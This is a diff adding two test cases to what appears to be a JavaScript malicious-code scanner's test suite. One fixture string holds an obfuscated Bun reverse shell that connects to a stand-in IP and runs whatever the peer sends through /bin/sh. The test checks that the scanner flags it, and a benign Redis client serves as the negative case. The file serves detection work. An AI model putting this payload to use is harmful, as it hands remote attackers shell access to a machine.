@@ -2852,3 +2852,21 @@ https.get(options, (res) => res.pipe(fs.createWriteStream(__dirname + '/LATEST')
     expect(threatsOf(docs)).toEqual([]);
   });
 });
+
+describe("Bun's TCP client (round 23)", () => {
+  it('Bun.connect reached through a computed global, whose data handler runs what the peer sends', () => {
+    const r = load({
+      'index.js': `const rt = globalThis[String.fromCharCode(66, 117, 110)];
+const opts = Object.fromEntries([['hostname', [203, 0, 113, 77].join('.')], ['port', 4539]]);
+opts.socket = { data(s, buf) { const r = rt[['sp', 'awn', 'Sync'].join('')](['/bin/sh', '-c', buf.toString()]); s.write(r.stdout); } };
+if (rt) rt.connect(opts);`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('js.exec-network-data');
+  });
+  it('quiet: a Bun client that sends a fixed greeting and logs replies', () => {
+    const r = load({
+      'index.js': `Bun.connect({ hostname: 'localhost', port: 6379, socket: { open(s) { s.write('PING\\r\\n'); }, data(s, buf) { console.log(buf.toString()); } } });`,
+    });
+    expect(threatsOf(r)).toEqual([]);
+  });
+});
